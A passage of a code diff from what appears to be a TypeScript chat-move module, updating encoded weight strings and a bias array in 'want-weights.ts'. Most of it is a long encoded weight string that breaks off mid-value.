 	third_struck_lord: "nnononnnnnonnmnnnnnnnnnnnonnnnmnnpnnnomnonnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_struck_me: "nnmnonooomnonnonmnmommnnnnnnmpommpmnnnnmonnnnnnnnmonnnnnnnnnnnnnnnnnnn",
-	third_struck_you: "omnnmononmoomomomnnnnnnnnonnmnqnmnmompnmpnnnnnmnnnmnnnnnnnnnnnnnnnnnnn",
-	to_lord: "lonmokmtmnoqmnmnmnomqronmmlomkmrlmnmmnmnrnmnompmoqnomnnnnmnmmnmnnmnnnm",
-	was_mine: "mnnmmmoqnonnolmlllmqruqtpmmollrlnnnmnmonmmnnnnmnnnlmnnmmmnmonnnnnnmmnn",
-	was_yours: "lnmmoqpnmpnqmrlosqqnmmmnpmmmomrpmmlmnnnlpmnmmnmmmlpnmommnmmmnnnmmnnnnm",
+	third_struck_me: "nnmnononomnonnonmnmommnnnnnnmpommpmnnnnmonnnnnnnnmonnnnnnnnnnnnnnnnnnn",
+	third_struck_you: "omnnmononmnomomomnnnnnnnnonnmnqnmomompnmpnnnnnmnnnmnnnnnnnnnnnnnnnnnnn",
+	to_lord: "lonmokmtmnoqmnmnmnomqroommlomkmrlmnmmnmnrnmnompmoqnomnnnnmnmmnmnnmnnnm",
+	was_mine: "mnnmmmoqnonnolmlllmqruqtpmmollrlnnnmnmonmmnnnnmnnnlmnnmmmnmomnnnnnmmnn",
+	was_yours: "lnmmoqpnmpnqmrlosqqnmmmnpmmmomrpmmlmnnnlpmnmmnmmmlpnmommnmmlnnnmmnnnnm",
 	you_helped: "mnnmppnmomnqpmnkrpponmmmmnmnoomomlmmnnnnnnnnnnonnommnnnmnnnpnnnmnnnnnn",
-	you_hit: "nmllqpnmooppmolonkopronmnnnmqssllmnnonnknnnmolkmnonpmmmmmmonmqmmnnmonm",
-	you_low: "noomnmmnoommmolloponnqonmppmrrpmmnmmnmnnononommnonlnmnmkmmnpnonmnmmpmm",
-	you_struck: "mnnlopqmmopplrmprtpnllmnnmmnnklpnknnnnmlpmlmmnmmmopmnomnnnmnmnnmmnnonn",
+	you_hit: "nmllqpnmooopmolonkopronmnnnmqrsllmnnonnknnnmolkmnonpmmmmmmonmqmmnnmonm",
+	you_low: "noomnmmnonlmmolloponnponmppmrrpmmnmmnmnnononommnonlnmnmlmmnpnonmnmmpmm",
+	you_struck: "mnnlopqmmopplrmprtpnllmnnmmnnklpnknnnnmlpmlmmnmmnopmnomnnnmnmnnmmnnonn",
 	yours: "lmrnomnnnmnlokmlkmmnnmpmnmommkoomuomroonqnpoolmpoonlnmnmnmnqommnnmnmnn"
 };
 
 // src/chatter/moves/want-weights.ts
 const UNIT3 = 0.5;
 const BIAS5 = [-2, -2, -2, -1.5, -1.5, -1.5, -2, -2, -1.5, -2, -2, -2, -2, -1.5, -1.5, -1, -1, -1, -2, -2, -1.5, -1, -1.5, -1, -1, -1.5, -1.5, -1.5, -1.5, -1, -1, -1.5, -1.5, -1, -1.5, -2, -2, -2, -2, -1, -1.5, -1.5, -1.5, -1.5, -1.5, -2, -2, -2, -1.5, -2, -2, -2, -2, -2, -2, -2, -2, -2, -1.5, -1, -2, -0.5, -1.5, -1.5, -1.5, -2, -1.5, -2, -2, -1.5];
-const WEIGHTS6 = "#`,a:9.FetxUkg~b<cEVEEKt4^XHy]N%W}KYC<&mVNrqD[|:fV/?,T3wp'tC4@HV*}<{eK|N;fIPjsEt_[)t,GFu/P4}1+@laB)ZZ11,?bksN1N-)Ef:t~IWY:N:O+1Z)tD_fGjqlhK+K.oFwhPr:MJ*Dgm4jyi|Zw~z[5:mb5s/,9CB`^&lX^qAGC9Wu+CV,w73:Y/O%MKiOiZ~@>w@-d;Nx{ei$M%Se^T%S<dhKGh94c08*KgU[E4$X#u9lY80)49w,0gMgxm'OD^W$@b55]6Oi[k]}ZGQ,j;kM;d3m9)OR0tkbuGJffqC]2c{E},'Sl^Uz_%J>Fd6dFg6fy)3|c&2AJYg-EM#+8~~~1+V%q7>>ClVxknJ=]bQ}7Z,[_a1({:1}6]U'D>C4XXD(X&r,;t=g[_:|dK?p:^?WhLW<ro~Z[R;oI{r@g;f@h|W(Kma'%:oEUpA}4$qfY_f49|{i7j;p#c_r3R?8B1r.80py9%[('f7%Q4_WgENe4747kWXW-NZiO>t~~8_%-n<,:/d:_KP)u6=}C@r?CM*9s+%z&(O`aq%Eb>BDW3c]6f@$c}f|Ns*jo@K.9?I&s~CmS(nLgUrx|W@|wJYzUqBG$(3Kpu,0N8($2)hW~95@YCzKta-[XcM$IyIx7)#'|fL>oKQJS6ODD17#^?4JXW.l4pElA6Lq+lz/7a[;>[b1SOx=;R(6OZJV`e1MIc}Y8}-[Jn|5Ov$_^C=^78@KMea]Im+:TwfsZ>>W,g$$Vi2lW@FZj7r`j$gTf,?v$FUqcON.B,J;5Z?e4W-HBAJx2.{v~kM{Q.qV;i4g;T$,x;btcldjLzP?i$,oyI&#jgF~xERNB/_aQJCdQ^HK%A9NdXWu1@M(-G,P&h?W,f|YIHNI|rH|uk{?A9}&OHj>wZ1}~K'HC8FX7@C<xtU7bvnXM>Z?(>,,5oBD']?<b)Y)~u(+mR[`fNxuN+8l5Ch/G~8z7Gxd2$g`HsVI(~*)GhxJ@%yeX]TAWWe;Sc*6FTG~v)OaC%L$Eay-@S{b{*hD/~9i+JeW5q,da8t{A.ugxt]K}>Q8;@C7l0JM8HFpPt;-</AkizO]y]X,~Z~:2e5Ob%H9iY=?'kW4J<xVJask1ZOK[awhbIO'aDTd~K:/G:{I31V4/xe&,9k<5E~*4?cZQSkw~V_P-B,`$JE(;vi#&8h'SQ8}&g'<I,r%N@n01g/~iVn=63JfI|-Hz{>i0vTfW,4Lt*cF,63yLao/cyNo67+x:o,]p,B<oi?1*)^UJ;o)rs-{h]+JQq39vD`DveaRpPZ0cq,3#J`rFt.?CPU;Me}.EoMA1Ddb.L*Hn&^Z3#^Y3a=cinLC$,.P=Hth(|V6=$XiRX300$`0DhRv:85Zrnh11HxY5)s?ddWf:K]xMi/|YVfhub+J&6JK%UNNjF#I?tz4[eJ^Iw*czh]]jGRgD|a:KV]g1#@BO%6~5f*WpJ;nN?fFGB4}Tc:x2e6G<{|Tsu[VG1Y=-|Cld6_U@zjuX.-G-~BBLhse>)>'(}99.UGZ]rV}/2lMg-s>I01y},{Z0fH){O:$3.%)^@[(QZGDW8qI1$P3cmNT=#.I|yjAH.hwl<.xc'qmts5vFZIh{D/()rO/jYJy994rr?#nQ*GE8u$[k9]lsIN_QmQsS5}7}:#RU=/Kq~sB1jTi`h$#XN#grH5ps]<sb:#J3U5ju]MZ.U:jkJ`-HVwD6@U:sCC>aE~q?Mgi`~U5g+-%qZ<<ei(Sgz0b%9mep?v2|m'mrY352<XmURF'RdK5MvE;PKJC7,%-7RM8xqaKo%6I|yj'|'c&Ak[JBI/Nk%98G`aC7D*wULZ~N@b$KclMeWg]=-I&<E0c{9E(:l2IM;y8%b*iS'D/PFoZ/YaCxeg'}?f4tqSQBYAt+cJl(EfkW{&XJQ:=L1NyVo$t0NS5qz$&@=qeE(x7``Yvq0xdcq&yIIxaOSSYE>Bbj,rOz=IeJWT#byM4uxlX^]OZva(&iW%;eVnFujM1u((}9f06<wus=7e70o(&],_H<{#D1TiL(B2)Ht8f7g-ut.a)*nEelHg6FWS?)}$r31MTE/hv.:s,sys,OWv*CnfVA{_tk_-]=HPJ4'fdU*u;Ex%AhCxJShZW5FV+@RKGS4m8qjDoGhx7(*1YD}8/A^wZefD,L6Wa^(UVd0zkNi?[_ZdJ3Ic%]Rxnbpe{,{2vm/6'<=ZJE#uYRG-X0l_DWnuAZLH_hI;gvmB._9l.N1Gd}w}e0#J}-g3'Pif1VUvr+_?1r;8t(W,,OWYO60D@?V5:SC&OY,;$#?>fhOp-cExosS_V@v$g2iI'{]fk*5{PI,3AEE}G:jXE$pF?Vcaw:;jY0><WJ54'hrtJ);+_Lbgoz?1gJ`:[k2%UN=^S+%$ji[.FHQi{;0RWVnbhE^{af}x-MUI.V*`MW9hCZxhhB*H-rtr$%_+K#pnDpC1r#dD%5X#[Xp&&w@1+-_rcn:v:R~Pucgvg$J3pSz--~;Qugd-0|*;G{CU&tFB]YS=GWG#<<Z=D@yIp8btG_/#%5aw=)4(zR0Ve&g.%dv`X2f6u&1'KT=C(IP0>D:;wx.#~E,^vtB$fGa1`EH:lj7=3juPgWEJAuJg.vE-f#GVn8geGyl]_iivJBsXp]UL%o?jie_x4Hp;&z]yQFd;CJ$#*:L5AlY#P>-'%j8LVbjm;mg^B#'Qo}ow2-#S{IkkQ74'5D(8,VG,f(gIrHSD9a<ak(CwHeG>:+E]O:@slCOlhHW_$to'O>pZ^2s-EB3%'cl=FEek4#FfPxlq)]o$_yiS{Hxu>l3QUZ23*uLZELE.M$hrBK18j?ja{;eGsww:=R$ypjp&a#EWjXbtZ@ipP4Ut)kL'g3DC&o9THRoB<T]&r'y;4N)7]8]<>1TpUE#(eCV'VsnC(5_jfnUcSk`7%W>B=)S<2-[5l0*l:oolF'H{O9~&.g:[aqDQ9gdv%h_o#58y$$br$|j*-^rsP3e)B'tcW8-t>Y/3s4#^V{#B~{MioSPNM,fQ^4ev7pd@;UR68V4$1qlplC^B3h/i{59ifUpv9SE,f(*{^M.uX?~ewMO71ATG*5S8Tu]9,(*pT)#_|zVG^`z<?^A'^@-fJuf1Ok84Hgn3PRG*a#iD_GO*x$tB.]WC2TdSkpUFvNAs>V=[v5&Pu&r=L?3q]z{-wPOtzgl_X$64'ATI9C+0)'2jjL_Q1,mIRSu}<iEX;K&ZQcICTSAlVkg@(52Q)'VJ<6w3=bAW*;Sl/'HZ+e]<3f2(RCbk`o3xY*Hr8`LirvV@t4T-&,xF{(wNQJyyrVg(22Z}$Jx>SnC7OMkkye,Anz43<AW(L}j{3z)1NG@a-`uoPSz3ez6eC:6WEaDSv,m5W*j:5fN7,3fTO1.+3Y=1i~pEJ4jyC>{9fQ1C3e$40@QGa{8Kw,:Dn'wgtZoktw~%A=ODL.xs=cH$HoZ}N7oJ&)T-_~'_CNU~Z|mm`Zj,nQmXq;</F`r3iP{GAa|U8IRalt|qU2zhV5]]1-'X}y(h=<D&Hd*QI%~*GfL};ZQV1P|D4rr/l0#xonrvIc?()@dpGa$|D^hCY8cWQT})+op||+fARv^}n)?z74,scLSAb@)s]_)BqAlG0O}STt1hbc+E*Si>Aq$)9&66^4D4hf/hQ71ED{c(Q+C6ObsR(zQcsyg`o?e`^lEoU4M|4P_Io-tF%9_dZgtfI0I;Q4BneS=SlY,LCupSZ{8K(%`AJ?ge0uO[8[)M?F$2j'e$X,E+e#B=067ziv0G-(J,z@BL}[y/OaV|V~`IZ2g?M0((2;g#]Gr$0CM#OIr.m#MC)gP${:4vs3Wh<_P-[^PxV>A9$^LL1Kk:C`bY*)l6EJ}d4p'A&sBQxeBoT6W3Gp:^}iyh#b:#5=&1^zalN*2P8/ZI9r[u/x&I9TIk-I[sv8&enGS]Tr9-tN$`FBTS4.[B^;SRZM5uaIf``P(%^atrf,P@fGE0.#+XE}@H+/@<6Wt'$N9hR2R>xeD2H6@i9tHwQot&YzJIt{,#jK?8xvu#L<.Y2rwLpZO3hdU~f2=P11:*#jA@e9'|(#MXQ@^_Q3'O6|L,^*5p:3GwALV(t7;Fx/2k^Zr*LE19;AyP=W'MSgZ9q{'f'yTR7a~`u?S4N^Bp%N^@WRz$qP?)<bH^#@Kzb'd]}U0^jO:Q6&zM0pDe8qZ/[*LA3Lr,kU6-}(Up{v6W?lC]m'xD{`pG=ayg'8^X>&J%}xJ??F~x}486$u)DApo`P'9p@|i[izb9EP`#0oCq4vpuLk*7FIM9^8^5At3f|F%I17DLzzmcK=~oce~yNyGx_Kv@VTkN/d*z%efS~pX@')X|wuB>`FL$(518i;;$*sL$#m`X}g~nhoIm#k?v[g;x1]`%XWJnHC<Xj38y>[SWP^Nr`|{ST{Uo*`w]3Ty}nQwI2Z2f>-}g(IJ;<7?i?'VPx)bfcq+|7/Y)[#xHgbtP3oWP]gh*uP:]ktzma$I?;}XpSq&D~p=Tf/`X,sxD?#OWczKG1{*|?'m|#yaI'9tj:ZaK_>}aZDtgUN0QLAOgRwMX}|Q,1mQ#rP2[xQ?72N&VNj;kZmR2$wstripcKp.^s~>*c0eA8X7;F]#UIsfY[(@dsvBC<Dwt7(^jfx3z1iRfpGD>`>DL7pI?cmB@QFlndnzunr`1R`Yw=.*IV|qBh+uj/RT~D*sLPgi?Aa'+.1lCXY_+'~]h^_v}xLPS[`nLCVrcAJx@w,DhO63D^v#x5S.'B`#bOASyi2z7-+7uj]8TM;XF`cYxf|LXY3X}G{C2%3w}tJ2{P6&:**#'-O)dYF9plJ^7ol@X^HB5en_h*OqC4fs5}N7J|Bv%4A@v?8vjX~a6PT}b*]rD;.$rG9Sbml{-u_9|BpTo8m9_2FLuTyB27n;kFD5n/9md|29H_tbOHueN$CHR5xtxOcpb;.m*VyOG`%Jn/4u0~|VxaFQM~)mh(KX,.3dw&uXPM9ei:cKG4B+&C+=)K-Fo9HGo_C'fhX6Pym,:]}k7DWt{}6:8c#rbPE/n5D.T,0D<5N_RJzRVeMj'jVK`tu95LJQNjA;QI'g4{7*y3P0|]7,9uqEM-@Huwl(|(6I2zfWmAPIfv*L%K]T#{lPgunpvcqNB7h]Q/HX-Q[%BIb2ujSC%S%>u3BV/1voads3?DG5G$rX&u?T';eLtA[@~2:~IS{oF,kO7?@ShT9s>u:lR'??ZJEt3;~NosI,`8l6gbs[<l?|f.tzXsgYy}AV}*JGeEGu@BC56]+lMDvu6f)#eTq@qK8DT{~b+~ATw%(.wLb&E'SS']HK/HJ@SY:7{f:^TNQ4j]o9OVlt^#xq2}BH[2)Eo-T~33sppU=I|S(g)`LWx/v>c*KTP$sxaC@tZ|N3xhRzie%O-Mw4@dw/.A.eJo|)Rr(h>*]<Cp:&[GWf2bKKu8iB>E~vT)2Mh7PL42*q]l5|4C8%[xGdfC{zd>#>N[(7elR?zl64DJCwR&0ik8ihB)p$}N;lAKS&oB_0M,Y@#le4jC10UB}u;B'0{TK6LmpLWKO#fMx?lsM3H]7)doeXD_`,bkOP$@sq@R:D~6AdX1A?p2~/Ki<}>oCJd2|$$0@Xvy=mw?GTtdajT)KkZ{Y^.qT&j-|HTBR?]N?`vurQRcPcD='%|D|1qi;y@@DGnYO2jBOyXk*V+c}AW:,@s0}mk]2EbY=L;}6z>MJ$S$v:,z6ByVX)fAJfHD2tL)yXNCW9%bx2Msj-6)5;9AFy2Et,>#UA`UcK8RZ9_5`wKzH>dP`'77kKcQcdRM%FCXp_8kGZ+s'eL`V>'q6fR`CI&d[~1W$k)5am_xw:RVow'5sQc_?}&kcBry`w-qlN:|gT9|oE92:.D-R@H:(0dQtyDcs(m3&%S:7OF]m?y{BFei$MUj^%^mT`&u%cS.M`Jptn6XIY6aXtq]jTi=pgFG>3pH/l1ldXu2=^90HpB<Qp0om'k>_tM;CqOmbgsIDxhMFT?LPif&S;ENq3G`XBQDQFIKcMglb:jP/pDu1NY>o#ouhm<Ai1*;8(Z+=4r.V|g}dnzN([O6uPCWPlOIq'31$6/SJJ~V&8yZ0SPMY-u83kD@%jV8--P/1u^KSh)*jaeOQzr?%SS)hag3TcVk1XVW_97cg=|X<]fHt_u*1]$p?2qE40<2W`zhtfY=e1qg8hZ+-0wuQYO?B&#^;8`Ckh10fC~|>sPW+;qp8puX4>{1IQS)eE4=|*QVZG:i.V60c).=]14G@=u=M)DfAW,~wp?5(#2k*7~^kd=pd&54G'ZFy|).azQ-TxE7u8?`U92Wv(gG+9-Vq}z^#S[[W;e=eE2x??{nu}R0W*ArA,zP0PS[>dy.W^.<>YCe-%m<H^Wp0'-nbDk7*[LZ~BBw}3&48oA<VE/644/TH22`M~BtL|I_AimjoCGWm-wh]Qyj%i)3VG(=$4%t]avXZ:PIw0_n0=;mYq@4.3U-}H/&]x7GX=DH<dn/1R2-qH%F|p[GEQO:&KY)TqsjB]4L:Z4Zq^3/hd}khqgpZ]Hg#QZ`Enu+eE<Zmah3f<7_X*d,W`1h%%$=40*of^:)9DdJ9mKO92~e}du[w=*ce]1bk(l:4Tuh}NNx0fBVtciWW~]x#C<1{}JGLD1;t#usPNay$}?:A+M@K#_x|(]t?Q`8/_{&3mFDw{^-22lh'2JU;XoY33e6mR*wlBNj|w$Z/K9@()JWAlE`u+U8)(f|gD<;tEdtV9@wSQvj0nPu=9&KX{g8)Njv5Qk8x}'6P%JnPn@S%DIWUfbsP{N;FjU&i{_^LYq&9-Y*=ZlC9xIv>FmOQ-ldu%&#P'AV'XuhSLMp}4$s7||Su(2n>Wt'P>Y%dC(G-No|if%DBfMBEW';Fz*f_d(ti}(8{_HY$t6PyYu&v_w@wKGiEt%tQdSd*G@>0@Ke{Ev[(l<2T'o]d1e5&v+i:kT}h([<W`jtRKKT$Lsv?/:#wz--tjq~`p[dKK|zo)w34(h.ws:A+z3~Z0}GRb6=rgaIgL2s@$Y:|Fv>831:wM%&]4~zx-~kR_1JkKosZo}9zlf>B1=G-EbD{+gl?M0qKPgLMI-31p'Iu?vxHa'_][=_.wYKgW{eAY1Hw/=v#w9aW%Z;dD=;k71z)m*S>rt&@}u&Y->'C;eYZw.yVmTj%[z`:FC)Nbn5yj1,p1kGr+XcE)|7-TFM~R5Bet28(I`A,X8uy{+tIhoJ=ikA?9(Z'L4YD]rQ-f|S38Z0fGc|xOR@l`q#-uCC/FMxu+<:J,9v'EVv@ajuKB+'jWUs_]Dwu$Rt%2~'YkX0G*1uc9H2wua}xpF|7'Z6J6~U5XCKDT:,G9=a`_g|>o<Y^Fr$#[yC$7cjYH#Kf|gUat4X_4%y90a?'kl%;']pq}^+gf,<~3Pw_YsU0[DFjxOQ=.TEF)1#hS)$G?bN@ATqRr?g7}#LDf*#RtYV/e$sM~/k6FRK9Vj/nE[]V9iH+YjS@&Uo3LhX2Mdgn>RLxm_de7qL><,2,L57=2.>WoT@Fa{:fS^x?lu/@[&,4eJ)BmZDm,24_PlO-v9vJ/1bSE[<k>AU7E]Ln.3DfTp/[|CCzp/z2Cadew/^=i(Eiw&rdRq]iv6ncr_O+JIJ?yoBsVCe_79clWyW1Olds0+f<MlB{,uE?J9}3ohbakp9|_($<ujbT;f-B|W)g{Lcy,,`d-IYv[qH6VZd~edQYf;V|uXR_&Y_L}HLlt}eJ.'8)4=RKlP~IRk;',12,pi,N8YVc_+qTKF$F<|),x{yi/98pcnz8)%KT>}6uc~B+o/uAFIQu#AP<izSV1:IXRZjN?'9Y2u4.fvz@9AP-:47x8ci?p``{DU82F,qskPIviM#f8Lb|{.}|K54:PQl=EW)VEse&]Q+3('9@IEly-a*#wns<daf,v{:Q6U?)-pU]JTv(H%QUL:LNznaDiCW+<%[xa.:ce8.oIH(G]P4yL|8lZo-ymY9.'`(oNU:+4%cpX`Y*'o/&J$v~/;/TWQ;;t/dPL7mRJn|mW1Fa{5Ng{4@#|g~;yOK]P'47^QJdRDm6fZrJF5]g[l2d`4F|z3(S?ta-$0n=XNzz1xCoH)WBo1U8S0@ZJDzUYo(2?=aJeOIkU3j}d3[L~^qU$p%OW.J[[JG_E:pW~{EMq),R-SP?]2x4f'|R9N3hKJ,>4:Hp*7#eIxK_Cb@&UFzb_N?u?Z`T^joOlG=,8G]uvPZE+S2cp?pxwLks-0</>@)C|(XPHX=G_s%`hSbn=L*:qtJ4AX$2so75jM(c~`y/ap,yw*e'uh<HFE#2Ih}cf>maGnU{eq[>MXX+Mya;Rs6k4'`a%P^fte+%*i]Zd&$1&,V`yr80.1~gL7t@Q6yz3UoaO-?jt.tzZ~yLPZU@JH=&so/5SD14~<^3j'7s,}#f?5c8R)DU55nrUb=teWYR9&S/t:CG7UTO=5qPa?BC-{ZmAga-qRi(iq{eSv@Wc?$,g9ov1(|@J[E0*lOQ^KpGN$6o#*;v6U6R@5$n0raL;zS5NZb5<lW`YSurs2Ol74lS&^`S(S+PbKhizJWp|}D5.lWUPpr3M/tf9lR^>d8HORxk#x>44ClB]_oG)'gt6X+`{J+ot|dl_/8fTg9jCKH8e*&kRUQ:k`50SaRC<y@O+_[*2tvDla]U#_nD>#8/UvSK8TqW]ZRe(7gvkWS#S4t.deIszLv8a$RU{o82>ZN@@%laDCs&,O.cEwsddNr>P9}xNFHHC{p+&JF^D$=#bc,]2}Cn/#|{c#yj38sliU+J:3ih$;}{[8tV(N75Yc)2&y/K/CFPKGbZr|amTiwsy7=-gSyOQ^p9;6k;f/pd^^ieW-0Xmm(}9jS+&HoGL('_?C5K^297c`5kj5u:iHo4z*yea'YLFSED2Vm=ua9::#_v4csMYG^iqd%p/wz;|7uIw5irE7i[:Q^B&9HV0yE:*2GwI.GxUlKJR*z<fP-e#*vd7CMQ,1aME8X]$cnXrViy)q8JJ[D?K`Sb3OE38%HrPN>a]N$-k9y0DKi=6#$GON1TNp_GW/FKY}(eN`#5>nMY=nf$A3sq=(dF)^RcpM7pt-nbEaf*^`Hz)O6.$~4fH_}WX[hMpK<9pRf(u)e<4hO03d%VfO&SzjoKBUH.KIJn{h&C3CTn<gy>HcCT38Zx^P4Kr&]#rRCvrL/szVA$T6wQUF6chZw*]}zJ'G0Z;*1@C:)3UlXlgJ0+%ZRyo.]79/6gbU,)l,/>LV^br9]rWM7l5,3mK}W'tEE<av~wZP0W{YX;;ipRwjX`&]*u5,JgTT8)4YRg<9&?^XL0A>ti]'immKZcR7BxuPO{?x'Q<bTuNs<xf{i*4l#{LT`Xx9QiDHO9kad>/QZO2njSuSUL:Yy:]crYl;h2}4D~c0W*J3(8gRc4Ix|bor4dOvm{hj8{aV085E7xtT>5G)^$,JzG(+]CZ5qSTS|1ElBpFm=Q6'69cqCQE&eN'yI8H(Q<ef)PJEzb[sLKU.yT+As:`tbTUxlz;6x{if=pb85>M&R]A(VfPWShb7$lH+=a~tO^f{_yIR}RXkH%Z<ZMXl6FMIoBXP:#fR'.A-+Q&ME&,yFoiPM7(`Mf:IMyl0zq}t&X+#bBM)4M'a`w/[_7-g3Yi%wXGuU~5}$uKac]/$EduBxn]|D*Hwvh3^Tc&zY^]Bvt:rLlxE`-Db-(kL}~wtVG8H$MCkvEP2A(NOu'@Y&p&G~1tN<9pi:TIL9feT~L-QdKeV1^&6L85Ds8'ntXUgMP|t{NxgIC>Vuy[~%=A.MFb>vbGd{['DUaRvu$.,jjCI:gW7lK@=W|KX<gr`Md8]cIt]-#ZpDas-ru@)1z'+X:[)([ez%uB-O^toT]28vtVFe`zno05%}FNU1zkF#o#kIc1b))[HOWF-PT@YyML[>^$Upg[_ji'rf}zjKGpIcI.1t-g,Qk@)yfup;OvCNG,3m9z&-?gB[$3k'LaTB0|5y3Otxy(gOVG.Jdr%G5r;8yUsF=8FYo&zM}b72SM'Da`=^v,lVlA)=U?GK$JlO8Yr0,ZW'/]U*yVKb<nU'b9a)N|'$@d-FgDPd-e|tJ46yy#[W4Oi>_CCH90C7a-$tcwdJ:F:5z3*EZ,(?>$k'.f$.fTv.&%G3q`Gv`^pf*lih^@f^Yi$s{.g,@>2o`s-J1D9JI,n]6Os6Z%5BXh.{<@?|.;F(,xYcRf<t80rN)aAW+3QzR6Won8,[}[MU-7snM?'(x;=3$9DP5hoPG-$SHYc27NGi,rM-+O&?F`(p~(d}z@wNqrR&I+|S&?AqvA67O#~fg6)rPHs.j-YXojN~RO.8)M#*Tvt%E_4]Od_WaV>u[a[phea_lc1LD;hO38^9tEbLU4w_GVZk,2N{Ja?4TP~;#{`C'Zl%U/#Q&>8o&e8sN^yb_`Rm{48dFGX3W:6o['MC8k$/QQ+|]UH*9bM;3F$f^|uux&)u*|-S2SV#Q8n%wQ?TzF_iXzi/zT^l<&AqZj]g.Ac?GVf6z?#p(K(41=rA%(6;e5txVpWvei9~eVg%l}KP/Wi.s#Z}~SH6udgr@=-|`>}SA50s<Y9zg,I'1c)rt7`Xc;35{dac?x%ErRq(e)&UihK.p+BURp#n(zjK3^o$eJ^&Gx3[W>K#,Vup]|~EJbsEBfm{q:tdX<tp|.yseNyU{,Aq>b>+(k6eRf>4V}o#`ReW)Xry5Hu50rn/78P1[sQc+TUXJ'P8-N0hB0O@If)>CeQ70D;8[;cc#b-&|YWKqFpp$-@$^?W&T9m3'`t#D}e:VcuJT]ALqhrPt}I/3[Qyc'CHgmxcj*RHvSY)M`}bd1bW-4LM}A93;Vq=QkWC(g<IsF22g`4{cv<^6<%*q;ygb28>0B_U2{DOVE%3$L+vcoj[S@t][?6(,zRXoFf1'a|bC;GfOHa?T6p`V-/?FX0r+k?W?|JV^yD.myBhaxZk2*X&~YV_I@*Li)$4bB3.5g;v&cAVeXtK=p74#sj9$^L8qn]g;G<u)<omC$NPpRrYo'K'mU:[rCW|(dQ##I#k'akf9er8>b'l0lfCp9x_Ah`6a{{-=~1A;-7}yrt*Kx?k&2]LbL`O:mLSbo5>B>6}4.5*h1O|.,vGm?=p@8dk|1qIk1Lqfl^#tO0k]=A}9oTZPs^:JczS[IsR8vrYb0$Y/N(s*/-Xb:[QCyC2@lgW46QV>LI/LQ;5?JJPYTd+AX[C/Gd8{)H)NX8sn`+.YB$yHaXGM+[0@qt95YaeV3JHG3pf<+?;sUD|.7VBCrNQ.Yv2BS7+[T)g8%CFsOqy7&k/3Wt(XF,1sHDLJjIz+1eIzh>0'5&NFE7QgiV.[bH5H<0Lti2^bZ{L=F20]j|KJo4Lu}?S6XUy.wk]-.Z#R}Ba3XGF)3pU?Sag8V[Q+8*5FgZnE9Y@OlE{kk0dTg:~%HK+*qm+r)2cpiwHIO~L,PAckXQ@ob/}jB'5XLH$.<HdH[-'<j;.LQ3~;*7d]`.(}>j:'bm5,RKkD(XK*~)c)13DBe{,TzI/VT[s`}XpAJ#yG_JJVdafMf~YAggPdMj8X9+q0=n3hWNWH_q,N]WO)$,#GFV]O8'IO9.WwH^RieEJAtzs4fYGoN@}X}0`<=S[87)ku;]f>}]G6+bU9<.IgsVAQUvx1E;s3d,N/?j:-$wQl4OB)Pzrt&P5]};VI(05Tm](gjD,D7G$Im(S~iK4%8+@<TbMALMMnf01tZxM9H$:EP>5++/RAK`=a-'nQS{gJv>yEmrd0(A3ZOfu?[TJ:%lj(^4/6}gInX%z#f^4uYg(j%~yhC9O9[4]=v@a`6zcUb56}kxgGE59gJ0'l(n-{;Wpz@2XjAVfQH0bFX}0W]<9P_t~IT/ml.,@=]%+0>`OT72re-oD5W}4Om1^uo~NU0X(ZQOgiCyD$o-OpZK=c=4d`N?-8w%9Zl>4d{TQebm7LpS>]^@Jw?}A3Ci>2K#eCPpp*l|<}XSYsX}okA*<;}1u,x+4sik$V4/?~S1@V),_pL2'Us$cHo[Ucivp}^)HOf$hY$=l^<KS7V)A~>{<Ykdo1Sw'zPtI{;P9MkG>{i_W6isWHps-,M.dNx,_*`qoVlsK}+6$mTm@4K<-Y&lhjul0A$w,(qbP|h?=1vGR_^^L:%+6JCFIVkn4FF55p;hu5}o'SKB%@4.RvRaLfSFXSgxX`rbZFSB^Uq>Yu[~H{~%q>x>`&+y}q51sVkGc;qNdTxr&'rr{Qzsvv?kY&tF(USio2`y*,^c8,q&aZP't`1Ua5>=Kf`#s`-?_Ez^3<`[kCeK:'iE.ol#[p1~mor8$dd1.7>^(-A4MlTK|jLN8aqqM^1|aSxiREJ%F)a7i)pYfZ:Z(/ls`d{fmI9=|W8L~Ix<_Wldl<1.:ms*(}i;(J{4(wpYoqMelg2|<Axo?9GxLNqDZ84&8$*-k/w/QI[oW7#N)Sn7rpaD>ZXWX}'*|/qNN4/_vGpjR+7M%TW(|r&wqxqj>%i|lk~80S-{KO.(7dH9[<'<>uz^Y8mwFT@YQ[=V7AJ<.oEln.=k_E2y`0Cxf%lFp:{9&rp@n`S:#&hCL2i2e}01Kr,Pn`*04N`T$ui*FLN$MD(q:UH#?526vbL]x+AL<Eeb${R=+O=1*.q]+.ka.X1N}%1'IWl&2)7g1*STYRkg(5fLp5[_=GmFIUc{gp{qiAa2ggqQ7|K=)a(6+]x;EESMocCgL0/a?{%oqmp/ibls0QFlGE~b*r[''[f$n*g4uu#E~6b({=d|l/(7uhpWpU(=iqYHLC{gGgVEc8mWaBp-.9k_NeCRZu7#xGQl,vo@Zu#DuLAW&LfuRGDp]afish*']E[uA$;$>@D-&]u/_-y[hgNtrQ&{rIjgBlYM%Rb(+quoP6/3gbJ^a[M]<?J(Zc0d9.RDGMS]zWd}[<N;t7G55_h^0[}b4-JjDd>Yl']2ySIP,*SH_p@%Dp*$g5Z3ME(}nQY8Bb@Z9bxEdJyCw0UrMfCz+Q5V,IF,pQ]zj8Pa~u}-FlX}B2uCVe}NaovS<%oIef)V;z2hEm;`0t[g>z}5pIvCyH?Q`J(df|&PWHy1QI6Fbu?M=Q)t/181Jrc'js6(o$&%[;L|'j$`g2#6<|{uyx`9]Sd,#NRty'#X%quLJY[A>uGGb_EW}ie2CAPI6)j,:K5.`FMBDY,KRJM1bv~';}}'<[or08R#D6.:lF&e'6@VqVj=}men/r>K_7W#4boQr|eq04O]f.|ih20h+CK<{A~5>sK`$lPi`c/N[QzpX5N#s}7~z*nrBA7X|bR;,)g.AZ=dw2'AZ{b]KN&M0XwktCDclP%U;YM^nuK.q/@&-=Z1KB7e#AqW2A^y`bk7]W`^?w}gZ'Wf6Kv$4Awj4?#$RQEO:AL&HcRJTWSOkGkWK@vZEU*s?ImH{07HLbPh_5>OOFt>:_ZkUAG#{t3h/6SD<u-2zo8&iIX@mPi?4Finyn}-mRu.Rd-U4PJby_$4;MOfODDyU'DUd8YK@_ffQJyVX*5>w;U8??D;G;0Ts,p>L-&<`/8?bCrP>`$Eav{jLW;fs6CQs}kMl4n8jlZ6:%-{'<CsIw_HC